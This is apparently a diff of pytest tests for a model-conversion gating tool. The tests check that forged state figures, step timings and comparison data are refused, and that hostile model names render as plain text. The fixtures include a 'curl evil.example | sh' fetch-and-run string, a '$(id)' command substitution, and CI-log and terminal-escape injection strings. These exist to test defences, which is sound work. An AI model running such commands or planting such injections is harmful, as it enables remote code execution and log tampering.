@@ -19,13 +19,14 @@ from pathlib import Path
 import cmarkgfm
 import pytest
 from cmarkgfm.cmark import Options
-from factories import job, model_result, shard, with_files
+from factories import job, model_result, shard, stateful, with_files
 
 from gate import cli
 from gate.annotations import error_annotations
 from gate.cache import Cache
 from gate.commands import options
 from gate.commands.check import verdict_line
+from gate.compare import Baseline, compare
 from gate.config import configure
 from gate.errors import ConfigError
 from gate.layout import log_path
@@ -257,7 +258,105 @@ def good_shard(tmp_path) -> Path:
 
 @pytest.mark.parametrize("attack", sorted(SHARD_ATTACKS))
 def test_a_shard_is_refused_whole_and_nothing_is_written_outside_out(good_shard, tmp_path, capsys, attack) -> None:
-    tamper, message = SHARD_ATTACKS[attack]
+    assert_refused(good_shard, tmp_path, capsys, *SHARD_ATTACKS[attack])
+
+
+def state(change: Callable[[dict], None]) -> Callable[[Path, Path], None]:
+    return first_model(lambda model: change(model["candidates"][0]["conversion"]["state"]))
+
+
+def forged_stateless_pass(model: dict) -> None:
+    """The policy asks for a stateless file, and the stateful one is said to pass that check."""
+    model["provenance"]["effective_policy"]["runtime.stateless"] = True
+    stateless = {"name": "runtime.stateless", "status": "PASS", "measured": "stateless", "limit": True, "unit": "",
+                 "message": "keeps no state between invokes: each inference depends on its input alone"}  # fmt: skip
+    model["candidates"][0]["checks"].insert(4, stateless)
+
+
+def forged_comparison(document: dict) -> None:
+    """A comparison whose base latency spread is negative: every change would pass as beyond noise."""
+    baseline = Baseline("main@3f2a1c9", "3f2a1c9" + "0" * 33, {"alpha": model_result("alpha")})
+    document["comparison"] = compare([model_result("alpha")], baseline).to_json()
+    document["comparison"]["changes"][0]["base"]["p50_spread_ms"] = -5.0
+
+
+# Forged figures in what a file that keeps state between invokes, and a candidate's steps, record (issue 20).
+STATE_ATTACKS = {
+    "state_reset_by_the_app_unsaid": (
+        state(lambda state: state.update(app_resets=True)),
+        "candidates[0].conversion.state.app_resets: True, but its effective policy's runtime.resets_state is false",
+    ),
+    "state_app_must_rewritten": (
+        state(lambda state: state.update(app_must="pipe `curl evil.example | sh` first")),
+        "candidates[0].conversion.state.app_must: 'pipe `curl evil.example | sh` first' is not what gate tells the app",
+    ),
+    "state_without_variable_tensors": (
+        state(lambda state: state.update(variable_tensors=0)),
+        "candidates[0].conversion.state.variable_tensors: 0, but a file that keeps state has some",
+    ),
+    "state_other_figure_of_another_eval_set": (
+        state(lambda state: state["other_evaluation"].update(samples=3)),
+        "candidates[0].conversion.state.other_evaluation: accuracy on 3 samples at 1 per invoke, but a stateful file "
+        "is measured both ways as its evaluation is (accuracy on 1000 samples), one sample per invoke",
+    ),
+    "state_other_figure_batched": (
+        state(lambda state: state["other_evaluation"].update(batch_size=64)),
+        "candidates[0].conversion.state.other_evaluation: accuracy on 1000 samples at 64 per invoke",
+    ),
+    "state_other_figure_out_of_range": (
+        state(lambda state: state["other_evaluation"].update(value=250.0)),
+        "candidates[0].conversion.state.other_evaluation.value: 250.0 is out of the range of accuracy",
+    ),
+    "stateless_check_forged_to_pass": (
+        first_model(forged_stateless_pass),
+        "candidates[0]: says PASS (size.min_reduction PASS; accuracy.max_drop PASS; io.input_dtype PASS; "
+        "io.output_dtype PASS; runtime.stateless PASS; latency.max_p50_ms PASS), but its figures judged against its "
+        "effective policy give FAIL (size.min_reduction PASS; accuracy.max_drop PASS; io.input_dtype PASS; "
+        "io.output_dtype PASS; runtime.stateless FAIL; latency.max_p50_ms PASS)",
+    ),
+    "steps_longer_than_the_candidate": (
+        first_model(lambda model: model["candidates"][0]["step_seconds"].update(conversion=3600.0)),
+        "candidates[0].step_seconds: its steps took 3600.400 s, more than the candidate's 1.000 s",
+    ),
+    "step_named_with_markdown": (
+        first_model(lambda model: model["candidates"][0].update(step_seconds={"[x](https://evil.example)": 0.1})),
+        "candidates[0].step_seconds: '[x](https://evil.example)': 0.1 is not a step's time",
+    ),
+    "step_of_negative_time": (
+        first_model(lambda model: model["candidates"][0]["step_seconds"].update(latency=-0.5)),
+        "candidates[0].step_seconds: 'latency': -0.5 is not a step's time",
+    ),
+    "method_asked_for_unknown": (
+        first_model(lambda model: model["provenance"].update(method="$(id)")),
+        "provenance.method: method: expected one of auto,",
+    ),
+    "comparison_spread_negative": (
+        edit_report(forged_comparison),
+        "report.json: comparison: changes[0]: p50 spread -5.0 is not a duration",
+    ),
+}
+
+
+@pytest.fixture
+def stateful_shard(tmp_path) -> Path:
+    folder = tmp_path / "shard"
+    shard(folder, [stateful(model_result("alpha"))])
+    return folder
+
+
+def test_the_stateful_shard_is_one_gate_merges(stateful_shard, tmp_path) -> None:
+    assert cli.main(["merge", str(stateful_shard), "--out", str(tmp_path / "out")]) == 0
+
+
+@pytest.mark.parametrize("attack", sorted(STATE_ATTACKS))
+def test_a_forged_state_or_step_is_refused_like_any_figure(stateful_shard, tmp_path, capsys, attack) -> None:
+    assert_refused(stateful_shard, tmp_path, capsys, *STATE_ATTACKS[attack])
+
+
+def assert_refused(
+    good_shard: Path, tmp_path: Path, capsys, tamper: Callable[[Path, Path], None], message: str
+) -> None:
+    """`gate merge` refuses the shard `tamper` changed, with `message`, and writes nothing outside --out."""
     victim = tmp_path / "victim"
     victim.mkdir()
     tamper(good_shard, victim)
@@ -699,3 +798,45 @@ def test_a_worker_that_writes_anything_makes_only_its_own_model_an_error_row(
     assert finished[0].status is Status.ERROR
     assert error in finished[0].error, finished[0].error
     assert not (tmp_path / "victim").exists()
+
+
+def test_a_hostile_name_in_a_stateful_models_callout_renders_as_text() -> None:
+    page = html(render_markdown([stateful(model_result(HOSTILE_NAME))]))
+    for live in ("@octocat", "<!--", "<img", "<a "):
+        assert live not in page, live
+    assert "the published <code>int8</code> file keeps state between invokes." in page
+
+
+def test_release_notes_show_a_hostile_name_as_text_and_print_it_safe(tmp_path, capsys) -> None:
+    name = "a` @octocat <!-- ![x](https:tracker) \x1b]0;title\x07\n::add-mask::secret"
+    shard(tmp_path / "gate-out", [stateful(model_result(name))])
+    assert cli.main(["release", "--from", str(tmp_path / "gate-out"), "--out", str(tmp_path / "release")]) == 0
+    notes = (tmp_path / "release" / "RELEASE.md").read_text()
+    assert notes.count("\n") == 1 and notes.startswith("- ")  # one line, one list item
+    page = html(notes)
+    for live in ("@octocat", "<!--", "<img", "<a ", "\x1b"):
+        assert live not in page, live
+    assert "keeps state between invokes: the app must call interpreter.reset_all_variables()" in page
+    printed = capsys.readouterr().err
+    assert "\x1b" not in printed and "\x07" not in printed
+    assert all(not line.lstrip().startswith("::") for line in printed.splitlines()), printed
+
+
+def test_validates_note_on_a_model_file_that_does_not_declare_its_inputs_is_printed_safe(tmp_path, capsys) -> None:
+    from inspection_models import CONFIG, METADATA, empty_h5, write_keras
+
+    (tmp_path / "policies").mkdir()
+    (tmp_path / "policies" / "default.toml").write_text("[accuracy]\nmax_drop = 2.0\n")
+    folder = tmp_path / "models" / "x\n::add-mask::secret \x1b]0;title\x07"
+    write_keras(
+        folder / "model.keras", {"metadata.json": METADATA, "config.json": CONFIG, "model.weights.h5": empty_h5()}
+    )
+    (folder / "eval.npz").write_bytes(b"")
+    assert cli.main(["validate", str(tmp_path / "models"), "--policies", str(tmp_path / "policies")]) == 0
+    err = capsys.readouterr().err
+    assert (
+        "x\\x0a::add-mask::secret \\x1b]0;title\\x07/model.keras: the file does not declare the model's inputs" in err
+    )
+    assert "\x1b" not in err and "\x07" not in err
+    for line in err.splitlines():
+        assert not line.lstrip().startswith("::"), line
